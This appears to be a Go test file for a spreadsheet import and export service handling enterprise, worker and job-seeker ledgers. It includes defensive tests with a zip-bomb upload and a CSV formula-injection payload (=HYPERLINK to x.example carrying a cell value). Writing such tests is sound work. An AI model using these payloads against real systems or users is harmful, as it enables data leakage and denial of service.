package app_test

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"fugong/app/apptest"
	"fugong/xlsx"
	"fugong/xlsx/xlsxtest"
)

// officeFile reads a fixture of xlsx/testdata: office/… made by LibreOffice, excel/…
// keeping the parts Microsoft Excel saved.
func officeFile(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "xlsx", "testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// The enterprises ledger as LibreOffice saves it — .xlsx with dates typed as dates
// (m/d/yy and yyyy/m/d) and numbers in the phone column, in the 1900 and the 1904 date
// systems, LibreOffice's own CSV — as Chinese Excel saves a CSV (GBK, dates 2020/3/9,
// 2020.3.10, 2020年3月11日), and as Excel saves a workbook (Windows Excel 2007 with
// numFmt 14 dates, Excel for Mac counting from 1904) previews clean and commits the
// same; a credit code the spreadsheet took for a number, and a date that is none, are
// named with what to do.
func TestLedgerImportReadsWhatOfficesSave(t *testing.T) {
	t.Parallel()
	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
		c := env.Login(t, "command")
		status, page := upload(t, c, "enterprises", "企业台账.xlsx", officeFile(t, "office/enterprises-bad.xlsx"))
		if status != http.StatusUnprocessableEntity || !strings.Contains(page, "第 2 行 · 统一社会信用代码：该格是数字") ||
			!strings.Contains(page, "请把该列设为文本后重新输入") || !strings.Contains(page, "第 3 行 · 复工日期：日期无法识别") {
			t.Fatalf("a code typed as a number and a date that is none: %d", status)
		}
		for _, name := range []string{"office/enterprises.xlsx", "office/enterprises-1904.xlsx", "office/enterprises-libreoffice.csv", "office/enterprises-gbk.csv",
			"excel/enterprises-excel2007.xlsx", "excel/enterprises-mac1904.xlsx"} {
			status, page := upload(t, c, "enterprises", filepath.Base(name), officeFile(t, name))
			m := regexp.MustCompile(`/ledgers/uploads/([0-9a-f]+)/commit`).FindStringSubmatch(page)
			if status != http.StatusOK || m == nil {
				t.Fatalf("%s: %d, no commit button: %s", name, status, regexp.MustCompile(`第 \d+ 行 · [^<]*`).FindAllString(page, -1))
			}
			if status, _, _ := c.Form("/ledgers/uploads/"+m[1]+"/commit", nil); status != http.StatusSeeOther {
				t.Fatalf("%s: commit %d", name, status)
			}
			var got []string
			rows, err := env.App.DB.R.Query(`SELECT uscc, resumed_on, monthly_rent, payroll FROM enterprises WHERE name LIKE '慈利办公%' ORDER BY name`)
			if err != nil {
				t.Fatal(err)
			}
			for rows.Next() {
				var uscc, on string
				var rent int64
				var payroll int
				rows.Scan(&uscc, &on, &rent, &payroll)
				got = append(got, fmt.Sprint(uscc, " ", on, " ", rent, " ", payroll))
			}
			rows.Close()
			want := "91430821205404746W 2020-03-09 350050 50|91430821205405116Y 2020-03-11 0 8|914308212054043756 2020-03-10 1200000 120" // 一, 三, 二
			if strings.Join(got, "|") != want {
				t.Errorf("%s committed %q, want %q", name, strings.Join(got, "|"), want)
			}
		}
	})
}

// A workers ledger saved by LibreOffice or by Excel, phones typed as numbers: the 贫困户
// column is read (it was dropped, every worker imported as not poor), a value that is
// neither 是 nor 否 is refused, and an ID number typed as a number is named.
func TestWorkerImportReadsPoorHouseholdsAndCodes(t *testing.T) {
	t.Parallel()
	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
		api := env.APIClient(t, "enterprise001")
		var ent int64
		env.App.DB.R.QueryRow(`SELECT enterprise_id FROM users WHERE username = 'enterprise001'`).Scan(&ent)
		post := func(file []byte) (int, importAnswer) {
			res := api.Do("POST", fmt.Sprintf("/api/v1/workers/import?enterprise_id=%d", ent), xlsx.ContentType, bytes.NewReader(file), nil)
			defer res.Body.Close()
			var a importAnswer
			json.NewDecoder(res.Body).Decode(&a)
			return res.StatusCode, a
		}
		for bad, lost := range map[string]string{"office/workers-bad.xlsx": "4.3082119880808E+017", "excel/workers-bad-excel2007.xlsx": "4.3082119880808E+17"} {
			status, a := post(officeFile(t, bad))
			named := map[string]bool{}
			for _, e := range a.Errors {
				named[fmt.Sprintf("%d %s %s", e.Line, e.Column, e.Message)] = true
			}
			if status != http.StatusUnprocessableEntity || a.Committed || !named["2 贫困户 贫困户一栏应填“是”或“否”。"] ||
				!named["3 身份证号 该格是数字 "+lost+"，表格已把后几位改写：请把该列设为文本后重新输入。"] {
				t.Fatalf("%s: %d %+v", bad, status, a)
			}
		}
		for _, good := range []string{"office/workers.xlsx", "excel/workers-excel2007.xlsx"} {
			if status, a := post(officeFile(t, good)); status != http.StatusOK || !a.Committed || a.Rows != 3 {
				t.Fatalf("%s: %d %+v", good, status, a)
			}
			var poor, n int
			var phone string
			env.App.DB.R.QueryRow(`SELECT COUNT(*) FROM workers WHERE enterprise_id = $1 AND poor AND name IN ('王兵', '赵敏')`, ent).Scan(&poor)
			env.App.DB.R.QueryRow(`SELECT COUNT(*) FROM workers WHERE enterprise_id = $1 AND name IN ('王兵', '李娟', '赵敏')`, ent).Scan(&n)
			env.App.DB.R.QueryRow(`SELECT phone_masked FROM workers WHERE enterprise_id = $1 AND name = '李娟'`, ent).Scan(&phone)
			if poor != 2 || n != 3 || phone != "139****5679" {
				t.Errorf("%s: poor households %d, want 2; %d workers, want 3; phone typed as a number %q", good, poor, n, phone)
			}
		}
		// The page says the bad cells as every import does, the message whole.
		c := env.Login(t, "enterprise001")
		status, page := uploadTo(t, c, fmt.Sprintf("/health/enterprises/%d/import", ent), "员工台账.xlsx", officeFile(t, "excel/workers-bad-excel2007.xlsx"))
		page = html.UnescapeString(page)
		if status != http.StatusUnprocessableEntity || !strings.Contains(page, "第 3 行 · 身份证号：该格是数字 4.3082119880808E+17，表格已把后几位改写") {
			t.Errorf("the workers page: %d %s", status, regexp.MustCompile(`第 \d+ 行[^<]*`).FindAllString(page, -1))
		}
	})
}

// sealedUpload checks that the upload staged under token waits sealed: its body does not
// hold clear (a value of the file) in clear.
func sealedUpload(t *testing.T, env *apptest.Env, token, clear string) {
	t.Helper()
	var body string
	env.App.DB.R.QueryRow(`SELECT body FROM ledger_uploads WHERE token = $1`, token).Scan(&body)
	if body == "" || strings.Contains(body, clear) || strings.Contains(body, base64.StdEncoding.EncodeToString([]byte(clear))) {
		t.Errorf("the staged upload %s is missing or not sealed: %.60q", token, body)
	}
}

// uploadTo posts a file as an upload form's "file" field, answering the status and page.
func uploadTo(t *testing.T, c *apptest.Client, path, name string, body []byte) (int, string) {
	t.Helper()
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	mw.WriteField("csrf", c.CSRF)
	fw, _ := mw.CreateFormFile("file", name)
	fw.Write(body)
	mw.Close()
	res := c.Do("POST", path, mw.FormDataContentType(), &b, nil)
	page, _ := io.ReadAll(res.Body)
	res.Body.Close()
	return res.StatusCode, string(page)
}

type importAnswer struct {
	Rows      int  `json:"rows"`
	Committed bool `json:"committed"`
	Errors    []struct {
		Line    int    `json:"line"`
		Column  string `json:"column"`
		Message string `json:"message"`
	} `json:"errors"`
}

// A zip bomb — a few MB that unpack to a GiB — is refused by every import at once with
// what is wrong, before it is unpacked.
func TestImportsRefuseZipBombs(t *testing.T) {
	t.Parallel()
	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
		bomb := xlsxtest.Bomb("xl/worksheets/sheet1.xml", 1<<30)
		const want = "文件解压后有 1024 MB，超过上限 64 MB"
		c := env.Login(t, "command")
		for _, path := range []string{"/demands/import", "/ledgers/enterprises/upload", "/power/upload"} {
			status, page := uploadTo(t, c, path, "台账.xlsx", bomb)
			if status != http.StatusUnprocessableEntity || !strings.Contains(page, want) {
				t.Errorf("%s: %d, want 422 saying %q", path, status, want)
			}
		}
		v := env.Login(t, "village001")
		if status, page := uploadTo(t, v, "/job-seekers/import", "求职登记.xlsx", bomb); status != http.StatusUnprocessableEntity || !strings.Contains(page, want) {
			t.Errorf("job seekers: %d, want 422 saying %q", status, want)
		}
		var ent int64
		env.App.DB.R.QueryRow(`SELECT enterprise_id FROM users WHERE username = 'enterprise001'`).Scan(&ent)
		workers := xlsxtest.Bomb("xl/sharedStrings.xml", 300<<20)
		res := env.APIClient(t, "enterprise001").Do("POST", fmt.Sprintf("/api/v1/workers/import?enterprise_id=%d", ent), xlsx.ContentType, bytes.NewReader(workers), nil)
		var e struct {
			Error struct {
				Fields map[string]string `json:"fields"`
			} `json:"error"`
		}
		json.NewDecoder(res.Body).Decode(&e)
		res.Body.Close()
		if res.StatusCode != http.StatusUnprocessableEntity || !strings.HasPrefix(e.Error.Fields["file"], "文件解压后有 300 MB") {
			t.Errorf("workers: %d %+v", res.StatusCode, e)
		}
	})
}

// Exports open as typed, safe spreadsheets: a name that would be a live formula in the
// CSV is quoted, a date is a date cell (its serial number, shown 2020-03-09), a credit
// code of digits only stays text; the scorecard's export link keeps the period shown.
func TestExportsAreTypedAndSafe(t *testing.T) {
	t.Parallel()
	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
		const formula = `=HYPERLINK("http://x.example/?"&B2,"查看")`
		var uscc string
		env.App.DB.R.QueryRow(`SELECT uscc FROM enterprises WHERE resumed_on = '2020-03-09' ORDER BY id LIMIT 1`).Scan(&uscc)
		if _, err := env.App.DB.W.Exec(`UPDATE enterprises SET name = $1 WHERE uscc = $2`, formula, uscc); err != nil {
			t.Fatal(err)
		}
		c := env.Login(t, "command")
		res := c.Do("GET", "/ledgers/enterprises/export?format=csv", "", nil, nil)
		body, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if !strings.Contains(string(body), `"'=HYPERLINK(""http://x.example/?""&B2,""查看"")"`) || strings.Contains(string(body), `,"=HYPERLINK`) {
			t.Errorf("the CSV carries the formula live")
		}
		res = c.Do("GET", "/ledgers/enterprises/export", "", nil, nil)
		book, _ := io.ReadAll(res.Body)
		res.Body.Close()
		raw, err := xlsx.ReadXLSX(bytes.NewReader(book))
		if err != nil {
			t.Fatal(err)
		}
		_, shown, err := xlsx.ReadTables(bytes.NewReader(book))
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, r := range raw.Rows {
			if r.Get("统一社会信用代码") != uscc {
				continue
			}
			found = true
			day, _ := xlsx.Day(r.Get("复工日期"))
			if strings.Contains(r.Get("复工日期"), "-") || day != "2020-03-09" || shown["企业台账"][r.Line-1][15] != "2020-03-09" {
				t.Errorf("复工日期 stored %q, shown %q", r.Get("复工日期"), shown["企业台账"][r.Line-1][15])
			}
		}
		if !found || uscc == "" {
			t.Errorf("the export has no row for %q", uscc)
		}

		_, page := c.Page("/liaison/scorecard?from=2020-02-20&to=2020-03-01")
		m := regexp.MustCompile(`id="scorecard-export" href="([^"]+)"|href="([^"]+)" id="scorecard-export"`).FindStringSubmatch(page)
		if m == nil {
			t.Fatal("no export link")
		}
		link := strings.ReplaceAll(m[1]+m[2], "&amp;", "&")
		res = c.Do("GET", link, "", nil, nil)
		res.Body.Close()
		if cd := res.Header.Get("Content-Disposition"); res.StatusCode != http.StatusOK || !strings.Contains(cd, "scorecard-2020-02-20-2020-03-01.xlsx") {
			t.Errorf("the export link %q answers %d %q", link, res.StatusCode, cd)
		}
	})
}

// An upload too large to be held in memory is spooled by the multipart reader to the
// temporary folder; a workers ledger there holds ID numbers in clear. Once the ledger is
// kept for its preview (or refused) nothing of it is left in the temporary folder; and an
// upload over its import's limit is refused, though the form is read before the handler.
func TestLargeUploadLeavesNoSpool(t *testing.T) {
	tmp := t.TempDir()
	t.Setenv("TMPDIR", tmp)
	apptest.EachInTurn(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
		var ent int64
		env.App.DB.R.QueryRow(`SELECT enterprise_id FROM users WHERE username = 'enterprise001'`).Scan(&ent)
		c := env.Login(t, "enterprise001")
		big := bytes.Repeat([]byte("430821198507150019,"), 40<<20/19) // over the form's 32 MiB in memory
		status, _ := uploadTo(t, c, fmt.Sprintf("/health/enterprises/%d/import", ent), "员工台账.xlsx", big)
		if status != http.StatusUnprocessableEntity {
			t.Fatalf("a file that is no workbook: %d", status)
		}
		// A ledger's limit (32 MiB) holds though the form was read before its handler.
		if status, page := uploadTo(t, env.Login(t, "command"), "/ledgers/enterprises/upload", "企业台账.csv", big); status != http.StatusUnprocessableEntity || !strings.Contains(page, "上传的文件太大") {
			t.Errorf("a 40 MB ledger: %d, want 422 上传的文件太大", status)
		}
		left, _ := filepath.Glob(filepath.Join(tmp, "multipart-*"))
		kept, _ := filepath.Glob(filepath.Join(tmp, "fugong-imports", "*"))
		left = append(left, kept...)
		if len(left) != 0 {
			t.Errorf("left in the temporary folder: %v", left)
		}
	})
}

// A job-seekers ledger saved by Excel for Mac, which counts its dates from 1904: the
// dates it is available from are the days typed, not four years earlier. The preview
// carries no file and no ID number: the upload stays on the server, sealed, under a token
// only its uploader can use.
func TestSeekerImportReadsMacExcel1904(t *testing.T) {
	t.Parallel()
	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
		c := env.Login(t, "village001")
		c.Page("/job-seekers/import")
		file := officeFile(t, "excel/job-seekers-mac1904.xlsx")
		status, page := uploadTo(t, c, "/job-seekers/import", "求职登记.xlsx", file)
		m := regexp.MustCompile(`name="token" value="([0-9a-f]{32})"`).FindStringSubmatch(page)
		if status != http.StatusOK || m == nil {
			t.Fatalf("preview: %d %s", status, regexp.MustCompile(`第 \d+ 行[^<]*`).FindAllString(page, -1))
		}
		if strings.Contains(page, "430821198903150045") || strings.Contains(page, "payload") || strings.Contains(page, base64.StdEncoding.EncodeToString(file[:30])) {
			t.Error("the preview carries the file or an ID number in clear")
		}
		var sealed string
		env.App.DB.R.QueryRow(`SELECT body FROM ledger_uploads WHERE token = $1`, m[1]).Scan(&sealed)
		if sealed == "" || strings.Contains(sealed, base64.StdEncoding.EncodeToString(file[:30])) {
			t.Errorf("the staged upload is not sealed: %.40q", sealed)
		}
		if status, _, _ := env.Login(t, "village002").Form("/job-seekers/import", url.Values{"token": {m[1]}}); status != http.StatusNotFound {
			t.Errorf("another village cadre used the token: %d", status)
		}
		if status, _, _ := c.Form("/job-seekers/import", url.Values{"token": {m[1]}}); status != http.StatusSeeOther {
			t.Fatalf("confirm: %d", status)
		}
		got := map[string]string{}
		rows, err := env.App.DB.R.Query(`SELECT name, available FROM job_seekers WHERE name IN ('周一', '吴二')`)
		if err != nil {
			t.Fatal(err)
		}
		for rows.Next() {
			var n, d string
			rows.Scan(&n, &d)
			got[n] = d
		}
		rows.Close()
		if got["周一"] != "2020-03-16" || got["吴二"] != "2020-03-20" {
			t.Errorf("available from %v, want 周一 2020-03-16 and 吴二 2020-03-20", got)
		}
		var left int
		env.App.DB.R.QueryRow(`SELECT COUNT(*) FROM ledger_uploads WHERE token = $1`, m[1]).Scan(&left)
		if left != 0 {
			t.Error("the staged upload is kept after its import")
		}
	})
}

// Every import says a bad cell the same way, once: "第 N 行 · 列名：message".
func TestImportErrorsReadAlike(t *testing.T) {
	t.Parallel()
	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
		var ent int64
		env.App.DB.R.QueryRow(`SELECT enterprise_id FROM users WHERE username = 'enterprise001'`).Scan(&ent)
		cases := []struct {
			user, path, name string
			file             []byte
			want             string
		}{
			{"command", "/ledgers/enterprises/upload", "企业台账.xlsx", officeFile(t, "office/enterprises-bad.xlsx"), "第 3 行 · 复工日期：日期无法识别"},
			{"command", "/power/upload?date=2020-03-09", "用电.csv", []byte("统一社会信用代码,日期,用电量(千瓦时)\n91430821205404746W,明天,12\n"), "第 2 行 · 日期：日期无法识别"},
			{"command", "/demands/import", "诉求.csv", []byte("统一社会信用代码,诉求类别,诉求内容,数量\n4.3082120540475E+17,masks,口罩不够,很多\n"), "第 2 行 · 统一社会信用代码：该格是数字 4.3082120540475E+17"},
			{"command", "/liaison/dispatch/preview", "选派.csv", []byte("姓名,职级,手机号,统一社会信用代码\n张三,科员,1.39123E+18,91430821205404746W\n"), "第 2 行 · 手机号：该格是数字 1.39123E+18"},
			{"village001", "/job-seekers/import", "求职.csv", []byte("姓名,身份证号,手机号\n周一,4.30821198903150E+17,13900003001\n"), "第 2 行 · 身份证号：该格是数字 4.30821198903150E+17"},
			{"admin", "/regions/import", "regions.csv", []byte("code,name,parent_code,level\n4.30821E+11,苗市镇,430821,township\n"), "第 2 行 · code：该格是数字 4.30821E+11，表格已把后几位改写：请把该列设为文本后重新输入"},
			{"admin", "/setup/import/people", "人员.csv", []byte("姓名,手机号,角色\n陈小斌,1.39074E+18,驻企联络员\n"), "第 2 行 · 手机号：该格是数字 1.39074E+18"},
			{"enterprise001", fmt.Sprintf("/health/enterprises/%d/import", ent), "员工.xlsx", officeFile(t, "office/workers-bad.xlsx"), "第 2 行 · 贫困户：贫困户一栏应填“是”或“否”。"},
		}
		for _, c := range cases {
			status, page := uploadTo(t, env.Login(t, c.user), c.path, c.name, c.file)
			page = html.UnescapeString(page)
			if status != http.StatusUnprocessableEntity || strings.Count(page, c.want) != 1 {
				t.Errorf("%s: %d, want %q; said %q", c.path, status, c.want, regexp.MustCompile(`第 \d+ 行[^<]*`).FindAllString(page, -1))
			}
		}
	})
}
